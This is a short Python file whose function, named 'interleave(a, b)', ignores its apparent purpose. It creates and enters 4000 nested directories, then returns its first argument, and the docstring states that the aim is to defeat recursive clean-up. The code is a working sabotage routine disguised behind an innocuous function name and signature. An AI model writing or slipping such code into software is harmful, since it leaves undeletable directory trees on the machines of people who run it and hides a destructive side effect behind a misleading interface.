"""Nests four thousand folders, which a recursive clean-up cannot remove."""

import os


def interleave(a, b):
    for _ in range(4000):
        os.mkdir("d")
        os.chdir("d")
    return a
